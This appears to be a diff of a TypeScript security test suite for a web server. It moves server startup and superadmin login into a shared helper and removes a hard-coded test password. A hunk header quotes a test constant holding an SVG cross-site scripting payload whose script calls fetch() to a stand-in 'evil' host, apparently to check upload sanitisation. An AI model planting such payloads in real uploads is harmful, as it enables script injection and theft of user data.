@@ -2,14 +2,14 @@ import { mkdtemp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
 import { request } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import type { AppContext } from '../context';
 import { writeZip } from '../domain/crud/zip';
 import { writeXlsx } from '../domain/crud/xlsx';
 import { MAX_FAILURES } from '../domain/login-throttle';
 import { OPEN_WRITE_REQUIRED } from '../features/system/resources/white-list';
 import { startTestServerWithContext, type TestServer } from '../testing';
-import { call, expectFailure, login, SERVER_TIMEOUT_MS } from '../test/helpers';
+import { call, expectFailure, login, SERVER_TIMEOUT_MS, suiteServer } from '../test/helpers';
 import { openWatched } from '../test/socket-watch';
 import { NUL_MSG } from './health';
 import { consoleCsp, inlineScriptHashes } from './security-headers';
@@ -26,11 +26,7 @@ const SVG_XSS = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.t
 let srv: TestServer;
 let ctx: AppContext;
 let superadmin: string;
-beforeAll(async () => {
-  ({ srv, ctx } = await startTestServerWithContext({ captcha: false }));
-  superadmin = (await login(srv, 'superadmin', 'admin123456', false)).access;
-}, SERVER_TIMEOUT_MS);
-afterAll(() => srv.close(), SERVER_TIMEOUT_MS);
+suiteServer(['superadmin'], (s) => ({ srv, ctx, tokens: [superadmin] } = s));
 
 function upload(server: TestServer, token: string, content: string | Buffer, name: string, type = 'application/octet-stream') {
   const form = new FormData();
